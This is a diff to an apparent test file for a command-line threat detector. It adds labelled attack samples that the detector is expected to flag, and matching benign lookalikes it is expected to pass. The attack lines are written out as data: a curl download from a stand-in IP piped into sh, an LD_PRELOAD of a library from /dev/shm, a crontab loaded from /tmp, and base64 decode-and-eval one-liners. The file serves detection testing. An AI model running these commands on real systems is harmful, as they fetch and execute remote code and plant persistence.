@@ -104,6 +104,9 @@ const attacks: readonly (readonly [what: string, told: string, ...steps: readonl
   ['decoded by Perl', 'high decode-and-run', ran('pe¦rl -MMIME::Base64 -e ev¦al decode_base¦64("aWQ=")')],
   ['decoded by PHP', 'high decode-and-run', ran('ph¦p -r ev¦al(base64_de¦code("aWQ="));')],
   ['decoded by Node', 'high decode-and-run', ran('node -e ev¦al(Buffer.from("aWQ=", "base64").toString())')],
+  ['blanks by a variable', 'high download-piped-to-interpreter', ran('sh -c cu¦rl${IFS}192.0.2.1/a|s¦h')],
+  ['a library before all others', 'high preload-set-by-command', ran('sh -c LD_PRE¦LOAD=/dev/shm/a.so nginx')],
+  ['a schedule from a file', 'medium crontab-set', ran('cron¦tab /tmp/a')],
   [
     'a shell through a pipe with a name',
     'high reverse-shell',
@@ -315,6 +318,8 @@ const honest: readonly (readonly [what: string, ...steps: readonly Step[]])[] = 
   ['tests that were built', ran('/tmp/go-build123/b001/app.test -test.v', '/tmp/go-build1234567/b001/app.test')],
   ['a monitor asks every kubelet', ...Array.from({ length: 40 }, (_, node) => connected(`10.0.1.${node}`, 10_250))],
   ['a node is told to start again', ran('ns¦enter -m/proc/1/ns/mnt -- test -f /var/run/reboot-required')],
+  ['another allocator', ran('sh -c LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server')],
+  ['its own schedule', ran('crontab /etc/crontabs/app')],
   ['a backup', ran('restic backup /data --repo s3:https://s3.example/backup'), ran('pg_dump -h db -U app app')],
   [
     'a proxy asks its engine',
